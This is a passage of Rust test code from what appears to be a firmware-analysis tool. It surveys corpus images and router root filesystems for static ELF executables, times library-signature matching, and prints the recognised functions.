                        .collect::<Vec<_>>()
                );
            }
        }
    }
    println!(
        "dynamic executables importing socket {socket}; import targets found {resolved}; socket call target found {socket_calls}; raw socket at a call {raw_calls}; call-site decoding {decode:?} for {bytes} bytes"
    );
}

/// What the library signatures find on real images, and what they cost: every static ELF
/// executable under `corpus/images` and `corpus/rootfs`, the time of the signature matching
/// and library-call decoding (`behaviour::library_call_scan`), and the functions recognised.
/// `cargo test --workspace --test behaviour corpus_libsig_survey -- --ignored --nocapture`
#[test]
#[ignore = "reads the whole corpus; run by hand"]
fn corpus_libsig_survey() {
    let Some(root) = netvet_model::corpus::path("images") else {
        return;
    };
    let mut inputs: Vec<std::path::PathBuf> = Vec::new();
    let mut stack = vec![root];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else if p.file_name().is_some_and(|n| n != "MANIFEST.md") {
                inputs.push(p);
            }
        }
    }
    inputs.sort();
    for r in [
        "rootfs/luxul-xbr4400/squashfs-root",
        "rootfs/phicomm-k2p/squashfs-root",
    ] {
        if let Some(p) = netvet_model::corpus::path(r) {
            inputs.push(p);
        }
    }
    let (mut files, mut bytes, mut with) = (0usize, 0usize, 0usize);
    let mut spent = std::time::Duration::ZERO;
    for p in &inputs {
        let t = netvet_unpack::Unpacker::new(netvet_unpack::Limits::default())
            .unpack_path(p)
            .unwrap();
        for e in t.files() {
            let data = t.content(e);
            if !data.starts_with(b"\x7fELF") {
                continue;
            }
            let Some(prof) = behaviour::profile(&e.path, data) else {
                continue;
            };
            if prof.linkage != Linkage::Static {
                continue;
            }
            files += 1;
            bytes += data.len();
            let t0 = std::time::Instant::now();
            let lib = behaviour::library_call_scan(data);
            spent += t0.elapsed();
            if !lib.recognised.is_empty() {
                with += 1;
                println!(
                    "{} {} | {:?} | handoff {:?}",
                    p.file_name().unwrap_or_default().to_string_lossy(),
                    e.path,
                    lib.recognised
                        .iter()
                        .map(|r| format!("{} {}@{:#x}", r.lib, r.name, r.addr))
                        .collect::<Vec<_>>(),
                    lib.scan.handoff
                );
            }
        }
    }
    println!(
        "static executables {files} ({bytes} bytes); with a recognised library function {with}; signature matching and library-call decoding {spent:?}"
    );
}
